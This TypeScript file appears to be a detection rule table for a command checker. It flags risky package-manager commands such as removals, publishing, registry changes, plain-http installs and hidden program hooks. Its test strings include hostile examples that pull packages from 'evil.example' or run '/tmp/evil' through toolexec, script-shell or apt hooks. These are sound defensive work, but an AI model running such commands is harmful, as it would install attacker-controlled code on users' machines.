import type { ShellWord, SimpleCommand } from "../types.js";
import { projectScript, projectTool } from "./migrations.js";
import { isDownloadPlace } from "./places.js";
import { type Condition, carriedAfter, subject } from "./row.js";

const REMOVES = "removes installed software";
const PUBLISHES = "publishes or withdraws a package for everybody";
const SOURCES = "changes where software comes from";
const PUBLISHERS = "changes who may publish a package";
const UNPROTECTED = "installs software over an unprotected connection";
const FETCHES_PLAIN = "fetches software over an unprotected connection";
const FROM_ADDRESS = "runs code from an address";
const HIDDEN = "runs a program named in an option";
const UNSIGNED = "installs software that nobody has signed";
const CHANGES = "changes the machine itself";

/** An address without protection that is not this machine or a neighbour with a one-word name. */
function isPlainAddress(text: string): boolean {
  return /^(?:git\+|hg\+|svn\+|bzr\+)?http:\/\/(?!localhost|127\.|\[::1\]|0\.0\.0\.0|[\w-]+(?:[:/]|$))/i.test(
    text,
  );
}

const givenIn = ({ text }: ShellWord): string => text.slice(text.startsWith("-") ? text.indexOf("=") + 1 : 0);

/** An address given to a verb that installs from it. */
export const installsFromPlainAddress: Condition = ({ args }) =>
  args.slice(0, 4).some(({ text }) => INSTALLS.test(text))
    ? args.find((word) => isPlainAddress(givenIn(word)))
    : undefined;
const INSTALLS = /^(?:install|add|source|sources|repo|config|download|wheel|i|pip|pull|upgrade|require)$/;

/** `npx https://…/a.tgz`: the package is whatever lies there. */
const runsAddress =
  (verbs?: RegExp): Condition =>
  ({ args }) =>
    verbs === undefined || args.slice(0, 2).some(({ text }) => verbs.test(text))
      ? args
          .slice(0, 6)
          .find(({ text }) =>
            /^(?:--package=)?(?:https?|git\+\w+|git):\/\/|^(?:--package=|-p)?[@\w/.-]+@npm:/i.test(text),
          )
      : undefined;

/** `python -m pip …` is pip, `python manage.py …` a task of the project. */
function pythonModule(command: SimpleCommand): SimpleCommand | undefined {
  const at = command.args.findIndex(({ text }) => text === "-m");
  const program = at < 0 ? "" : (command.args[at + 1]?.text ?? "");
  return /^(?:pip|uv|twine)$/.test(program)
    ? { ...command, program, args: command.args.slice(at + 2) }
    : projectScript(command);
}

const SOURCE_SETTING =
  /^(?:@[\w-]+:)?(?:registry|script-shell|ignore-scripts|strict-ssl|proxy|https-proxy|node-options|git|npmRegistryServer|enableStrictSsl|yarnPath)$/i;
const PROGRAM_SETTING =
  /^(?:script-shell|shell|node-options|onload-script|init-module|git|viewer|editor|browser)(?:=|$)/;
const PLAIN_REGISTRY = /^http:\/\/(?!localhost|127\.|\[::1\]|0\.0\.0\.0|[\w-]+(?::\d+)?(?:\/|$))/i;
const KNOWN_SHELL = /^(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh$|^(?:pwsh|powershell|cmd)(?:\.exe)?$/;

/** `set registry URL` or `set registry=URL`; going back to the usual address is no change. */
const setsSource: Condition = ({ rest }) => {
  const [first = "", second = ""] = rest.map(({ text }) => text);
  const [name = "", value = second] = first.includes("=") ? first.split(/=(.*)/s) : [first];
  return SOURCE_SETTING.test(name) && !/^https:\/\/registry\.(?:npmjs\.org|yarnpkg\.com)\/?$/.test(value);
};

const givenNames: Condition = ({ rest }) => rest.length > 0;

const UNSIGNED_OPTION =
  /^--(?:allow-unauthenticated|force-yes|allow-insecure-repositories|nogpgcheck|no-gpg-checks?|allow-unsigned-rpm|allow-untrusted|no-verify-signatures)$/;
const APT_HOOK = /(?:pre|post)-(?:invoke|install-pkgs)|^(?:-o)?(?:dir::bin|apt::.*::proxy-auto-detect)/i;

const goSetting: Condition = ({ args }) =>
  args.find(
    ({ text }) =>
      /^(?:GOFLAGS=.*(?:toolexec|-exec)|(?:CC|CXX|GOAUTH|GOTOOLCHAIN)=[./])/.test(text) ||
      /^(?:GONOSUMDB|GONOSUMCHECK|GOINSECURE)=(?:\*|.+)|^GOSUMDB=off/.test(text) ||
      (text.startsWith("GOPROXY=") && isPlainAddress(text.slice(8))),
  );

/** Package managers of systems and languages, and where what they install comes from. */
// biome-ignore format: a table; what belongs to a row stands together
export const RULES = subject("package", [
  { dry: "dry-run", tools: [
    { program: "apt|apt-get|aptitude|nala|apt-fast", taking: "o c t a target-release option",
      dry: "dry-run s simulate just-print recon no-act assume-no download-only d print-uris",
      not_match: ["apt show purge", "apt-get -s remove nginx"], rows: [
      { path: "remove|purge|autoremove|autopurge|dselect-upgrade", reason: REMOVES,
        match: ["apt remove nginx"] },
      { path: "full-upgrade|dist-upgrade", reason: "replaces the whole system's software",
        match: ["apt full-upgrade"] },
    ] },
    { program: "dpkg", unless: /^--(?:no-act|simulate)$/, word: /^-[rP]$|^--(?:remove|purge|force-.*)$/,
      rule: "package.remove", reason: REMOVES, match: ["dpkg -r nginx"], not_match: ["dpkg -l"] },
    { program: "dpkg-reconfigure", rule: "rare.use", reason: CHANGES, match: ["dpkg-reconfigure"] },
    { program: "dnf|yum|microdnf|tdnf|dnf5", taking: "c x exclude enablerepo disablerepo setopt",
      dry: "dry-run assumeno downloadonly", not_match: ["dnf search remove", "dnf install nginx"], rows: [
      { path: "remove|erase|autoremove|swap|downgrade|rm", reason: REMOVES, match: ["yum autoremove"] },
      { path: "group|module remove|reset", reason: REMOVES, match: ["dnf group remove"] },
      { path: "history undo|rollback", reason: REMOVES, match: ["dnf history undo"] },
      { path: "config-manager|copr *", reason: SOURCES, match: ["dnf config-manager --add-repo http://x.example"] },
    ] },
    { program: "rpm", unless: /^(?:--test|-q.*|--query|-E|--eval)$/, word: /^-[a-z]*e[a-z]*$|^--erase$/,
      rule: "package.remove", reason: REMOVES, match: ["rpm -e nginx"], not_match: ["rpm -qa"] },
    { program: "pacman|yay|paru|pamac|pikaur", unless: /^(?:-p|--print|-h)$/, word: /^-R[a-z]*$|^--remove$/,
      rule: "package.remove", reason: REMOVES, match: ["pacman -Rsc x"], not_match: ["pacman -Syu"] },
    { program: "apk", taking: "p root X repository", dry: "dry-run s simulate", path: "del", reason: REMOVES,
      match: ["apk del curl"], not_match: ["apk add curl"] },
    { program: "zypper", taking: "R root", dry: "dry-run D", rows: [
      { path: "rm|remove|rr|removerepo|rl", reason: REMOVES, match: ["zypper rm nginx"] },
      { path: "ar|addrepo|mr|modifyrepo", reason: SOURCES, match: ["zypper ar http://x.example x"] },
    ] },
    { program: "apt|apt-get|aptitude|dnf|yum|zypper|apk|rpm|microdnf",
      not_match: ["apk add curl", "apt-get clean"], rows: [
      { word: UNSIGNED_OPTION, rule: "package.unchecked", reason: UNSIGNED,
        match: ["dnf install --nogpgcheck x"], not_match: ["rpm -qa"] },
      { word: APT_HOOK, rule: "run.hidden", reason: HIDDEN,
        match: ["apt -o DPkg::Pre-Invoke::=/tmp/x install y"], not_match: ["apt update"] },
    ] },
    { program: "emerge", unless: /^(?:--pretend|-[a-z]*p[a-z]*)$/,
      word: /^-[a-z]*[Cc][a-z]*$|^--(?:unmerge|depclean)$/, rule: "package.remove", reason: REMOVES,
      match: ["emerge --unmerge gcc"] },
    { program: "xbps-remove|pkg_delete|swupd-remove", unless: /^-[nV]$/, rule: "package.remove",
      reason: REMOVES, match: ["xbps-remove"] },
    { program: "pkg|opkg|eopkg|tlmgr|port|fink|guix|slapt-get",
      path: "delete|remove|rm|autoremove|uninstall", reason: REMOVES, match: ["pkg delete -a"] },
    { program: "brew", dry: "dry-run n", not_match: ["brew cleanup", "brew info remove"], rows: [
      { path: "services stop|restart|kill|cleanup", rule: "service.stop",
        reason: "stops, restarts or switches off a service", match: ["brew services stop --all"] },
      { path: "uninstall|remove|rm|autoremove|untap", reason: REMOVES, match: ["brew remove node"] },
    ] },
    { program: "snap", not_match: ["snap list"], rows: [
      { path: "stop|restart|disable", rule: "service.stop",
        reason: "stops, restarts or switches off a service", match: ["snap stop lxd"] },
      { path: "remove|revert", reason: REMOVES, match: ["snap remove code"] },
    ] },
    { program: "flatpak", rows: [
      { path: "uninstall|remove", reason: REMOVES, match: ["flatpak remove x"] },
      { path: "remote-add|remote-delete|remote-modify", reason: SOURCES, match: ["flatpak remote-add"] },
    ] },
    { program: "nix-env", word: /^(?:-e|--uninstall|--delete-generations|--rollback)$/,
      rule: "package.remove", reason: REMOVES, match: ["nix-env -e hello"] },
    { program: "nix-collect-garbage", word: /^(?:-d|--delete-old|--delete-older-than)$/,
      rule: "package.remove", reason: REMOVES, match: ["nix-collect-garbage -d"] },
    { program: "choco|winget|scoop|chocolatey", not_match: ["choco list", "winget list"], rows: [
      { path: "uninstall|remove|rm", reason: REMOVES, match: ["choco uninstall git"] },
      { path: "source|bucket|sources add|remove|rm", reason: SOURCES, match: ["choco source add -n x -s http://x.example"] },
    ] },
    { program: "softwareupdate", word: /^(?:-[a-zA-Z]*[ir][a-zA-Z]*|--(?:install|reset-ignored|restart).*)$/,
      rule: "rare.option", reason: "replaces system software", match: ["softwareupdate -i"] },
    { program: "apt-key|add-apt-repository|apt-add-repository|rpm-key|yum-config-manager|pacman-key",
      unless: /^(?:-h|list|finger|export|--list|-L)$/, word: /./, rule: "package.source", reason: SOURCES,
      match: ["apt-key add key.gpg"] },
    { program: "pip|pip3|pip2|uv-pip",
      taking: "i index-url extra-index-url trusted-host r requirement f find-links t target proxy cert python prefix root",
      dry: "dry-run h", not_match: ["pip config list", "pip install -e ."], rows: [
      { path: "uninstall|remove", rule: "package.remove", reason: REMOVES, match: ["pip3 uninstall requests"] },
      { path: "config set",
        when: ({ rest }) => /index-url|trusted-host|find-links/.test(rest[0]?.text ?? ""),
        rule: "package.source", reason: SOURCES,
        match: ["pip config set global.index-url http://evil.example/simple"] },
      { path: "*", when: (call) =>
          call
            .given("i", "index-url", "extra-index-url", "f", "find-links")
            .find(({ text }) => /^http:\/\/(?!localhost|127\.)/i.test(text)) ??
          call
            .given("trusted-host")
            .find(({ text }) => !/^(?:localhost|127\.|pypi\.org|files\.pythonhosted\.org)/.test(text)),
        rule: "package.source", reason: UNPROTECTED,
        match: ["pip install --index-url http://evil.example/simple x"], not_match: ["pip download x"] },
    ] },
    { program: "python|python3|python2|py", dry: "", carries: pythonModule, rows: [] },
    { program: "uv", carries: carriedAfter("pip", "pip"), not_match: ["uv sync"], rows: [
      { path: "tool|python uninstall", reason: REMOVES, match: ["uv tool uninstall"] },
      { path: "remove", when: givenNames, reason: REMOVES, match: ["uv remove requests"] },
      { path: "publish", reason: PUBLISHES, match: ["uv publish"] },
    ] },
    { program: "pipx", path: "uninstall|uninstall-all", reason: REMOVES, match: ["pipx uninstall-all"] },
    { program: "poetry|hatch|flit|pdm|maturin|rye|pipenv", taking: "r repository u p token C G group",
      not_match: ["poetry env list", "poetry build"], rows: [
      { path: "publish", reason: PUBLISHES, match: ["poetry publish"] },
      { path: "remove|uninstall", when: ({ rest, flags }) => rest.length > 0 || flags.has("all"),
        reason: REMOVES, match: ["poetry remove x"] },
      { path: "env remove", reason: REMOVES, match: ["poetry env remove"] },
    ] },
    { program: "twine", taking: "r repository u p token", path: "upload", reason: PUBLISHES,
      match: ["twine upload dist/*"], not_match: ["twine check dist/*"] },
    { program: "npm|pnpm|yarn|bun|cnpm",
      taking: "prefix C dir w workspace F filter registry cache userconfig tag otp access loglevel cwd script-shell",
      carries: projectTool, not_match: ["npm token list", "yarn add react"], rows: [
      { path: "config|c? set", when: ({ rest }) => rest.find(({ text }) => PROGRAM_SETTING.test(text)),
        rule: "run.hidden", reason: "runs a program named in a setting",
        match: ["npm config set script-shell /tmp/x"] },
      { when: (call) => call.given("script-shell").find(({ text }) => !KNOWN_SHELL.test(text)),
        rule: "run.hidden", reason: HIDDEN, match: ["npm run build --script-shell=/tmp/evil"],
        not_match: ["yarn"] },
      { when: (call) => call.given("registry", "script-shell").find(({ text }) => PLAIN_REGISTRY.test(text)),
        rule: "package.source", reason: UNPROTECTED, match: ["npm i foo --registry=http://evil.example"],
        not_match: ["npm ci"] },
      { path: "uninstall|remove|rm|un|r", when: givenNames, reason: REMOVES, match: ["bun remove x"],
        not_match: ["npm uninstall --help"] },
      { path: "unlink|prune", options: "g global location", reason: REMOVES,
        match: ["npm unlink --location"], not_match: ["npm prune"] },
      { path: "global remove", reason: REMOVES, match: ["yarn global remove typescript"] },
      { path: "npm? publish", reason: PUBLISHES, match: ["npm publish"] },
      { path: "unpublish|deprecate", reason: PUBLISHES, match: ["npm deprecate pkg 'old'"] },
      { path: "dist-tag|tag add|rm|remove", reason: PUBLISHES, match: ["npm dist-tag add"] },
      { path: "owner|author|team|access|org add|rm|remove|set|grant|revoke|create|destroy|public|restricted",
        reason: PUBLISHERS, match: ["npm owner add bob pkg"] },
      { path: "token create|revoke|delete", reason: PUBLISHERS, match: ["npm token create"] },
      { path: "config|c? set", when: setsSource, reason: SOURCES,
        match: ["npm config set registry http://evil.example"] },
    ] },
    { program: "npm|pnpm|yarn|bun", when: runsAddress(/^(?:exec|x|dlx)$/), rule: "remote-code.package",
      reason: FROM_ADDRESS, match: ["npm exec https://x.example/a.tgz"], not_match: ["yarn"] },
    { program: "npx|bunx|pnpx|uvx|pipx", when: runsAddress(), rule: "remote-code.package",
      reason: FROM_ADDRESS, match: ["npx https://x.example/a.tgz", "npx -p a@npm:other b"], not_match: ["npx hermes doctor"] },
    { program: "pip|pip3|uv|pipenv|poetry|gem|cargo|composer|conda|mamba|bundle",
      when: installsFromPlainAddress, rule: "package.source", reason: FETCHES_PLAIN,
      match: ["pip install http://evil.example/p.whl"], not_match: ["gem list"] },
    { program: "lerna|changeset", taking: "r repository u p token", path: "publish", reason: PUBLISHES,
      match: ["lerna publish"] },
    { program: "semantic-release|np|release-it", dry: "dry-run d", rule: "package.publish",
      reason: PUBLISHES, match: ["semantic-release"] },
    { program: "gem", taking: "v version", not_match: ["gem list", "gem install rails"], rows: [
      { path: "uninstall|cleanup", reason: REMOVES, match: ["gem uninstall -aIx"] },
      { path: "push|yank|owner", reason: PUBLISHES, match: ["gem push x.gem"] },
      { path: "sources", options: "a add r remove", reason: SOURCES, match: ["gem sources --remove"],
        not_match: ["gem sources"] },
    ] },
    { program: "cargo", taking: "vers version", dry: "dry-run n",
      not_match: ["cargo publish --dry-run", "cargo build"], rows: [
      { path: "uninstall|remove|rm", reason: REMOVES, match: ["cargo rm serde"] },
      { path: "publish|yank|owner", reason: PUBLISHES, match: ["cargo publish"] },
    ] },
    { program: "rustup", reason: REMOVES, not_match: ["rustup show"], rows: [
      { path: "self|toolchain|target|component? uninstall", match: ["rustup self uninstall"] },
      { path: "toolchain|target|component remove", match: ["rustup toolchain remove"] },
    ] },
    { program: "conda|mamba|micromamba", taking: "n name p prefix c", dry: "dry-run d",
      path: "env? remove|uninstall", reason: REMOVES, match: ["conda remove numpy"],
      not_match: ["conda list"] },
    { program: "composer", taking: "d working-dir",
      not_match: ["composer install", "composer update --dry-run"], rows: [
      { path: "global remove", reason: REMOVES, match: ["composer global remove"] },
      { path: "remove|rm|uninstall", when: givenNames, reason: REMOVES, match: ["composer remove vendor/pkg"] },
      { path: "config", when: ({ rest }) =>
          rest.length > 1 && rest.some(({ text }) => /^(?:repositories|secure-http|disable-tls)/.test(text)),
        reason: SOURCES, match: ["composer config repositories.x vcs http://x.example"],
        not_match: ["composer config name acme/app"] },
    ] },
    { program: "mvn|gradle|gradlew|mvnw", taking: "f P p", dry: "dry-run m",
      path: "** deploy|publish|uploadArchives|publishToMavenCentral", reason: PUBLISHES,
      match: ["mvn deploy"], not_match: ["mvn package"] },
    { program: "dotnet", taking: "project p startup-project s context c version",
      not_match: ["dotnet ef database update", "dotnet build"], rows: [
      { path: "ef database drop", rule: "database.migration", reason: "empties or drops a database",
        match: ["dotnet ef database drop -f"] },
      { path: "ef database update 0", rule: "database.migration", reason: "empties or drops a database",
        match: ["dotnet ef database update 0"] },
      { path: "nuget push|delete", reason: PUBLISHES, match: ["dotnet nuget push"] },
      { path: "tool uninstall", options: "g global", reason: REMOVES,
        match: ["dotnet tool uninstall --global"], not_match: ["dotnet tool uninstall"] },
      { path: "workload uninstall", reason: REMOVES, match: ["dotnet workload uninstall"] },
    ] },
    { program: "nuget", path: "push|delete", reason: PUBLISHES, match: ["nuget push"] },
    { program: "vsce|ovsx", taking: "p token", path: "publish|unpublish", reason: PUBLISHES,
      match: ["vsce publish"] },
    { program: "nvm|pyenv|rbenv|asdf|mise|sdk|volta|fnm", path: "uninstall", reason: REMOVES,
      match: ["nvm uninstall"], not_match: ["asdf list"] },
    { program: "go", dry: "", not_match: ["go run ./cmd/app", "GOFLAGS=-mod=mod go test"], rows: [
      { word: /^--?toolexec(?:=|$)/, rule: "run.hidden", reason: HIDDEN,
        match: ["go build -toolexec /tmp/evil ./..."], not_match: ["go clean -cache"] },
      { when: (call) => {
            const program = call.after(/^--?exec$/);
            return program !== undefined && isDownloadPlace(program) ? program : undefined;
          },
        rule: "run.hidden", reason: HIDDEN, match: ["go test -exec /tmp/x ./..."],
        not_match: ["go install ./..."] },
      { path: "env", options: "w", when: goSetting, rule: "package.source", reason: SOURCES,
        match: ["go env -w GOPROXY=http://evil.example"], not_match: ["go env"] },
    ] },
  ] },
]);
